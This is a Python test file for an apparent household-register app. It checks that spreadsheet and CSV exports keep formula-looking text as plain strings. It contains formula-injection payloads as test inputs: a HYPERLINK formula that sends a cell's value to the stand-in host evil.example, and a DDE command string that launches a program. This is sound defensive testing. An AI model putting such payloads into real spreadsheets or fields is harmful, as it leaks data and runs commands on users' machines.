"""Every spreadsheet export keeps typed text as text (issue 9, item 7): no formula cells."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from app.models import Household, Villager
from app.services.exports import export_households, export_register
from tests.helpers import make_household

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _cells(data: bytes, sheet: str):
    return [cell for row in load_workbook(io.BytesIO(data))[sheet].iter_rows() for cell in row]


def test_the_register_workbook_exports_a_formula_looking_motto_as_text(db):
    household = make_household(motto=LINK)
    household.address = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    data = export_register(household.village, select(Household), select(Villager), actor="测试").data
    typed = [c for c in _cells(data, "户") if c.value in (LINK, household.address)]
    assert len(typed) == 2 and {c.data_type for c in typed} == {"s"}
    assert all(c.data_type != "f" for c in _cells(data, "户") + _cells(data, "人"))


def test_the_household_export_neutralises_formulas_in_xlsx_and_csv(db):
    household = make_household()
    household.address = "=1+2"
    household.category = "-3+4"
    db.session.commit()
    cells = _cells(export_households("xlsx", village=None, actor="测试"), "户籍登记")
    assert [c.data_type for c in cells if c.value in ("=1+2", "-3+4")] == ["s", "s"]
    rows = list(csv.DictReader(io.StringIO(export_households("csv", village=None, actor="测试").decode("utf-8-sig"))))
    assert (rows[0]["住址"], rows[0]["户类别"]) == ("'=1+2", "'-3+4")
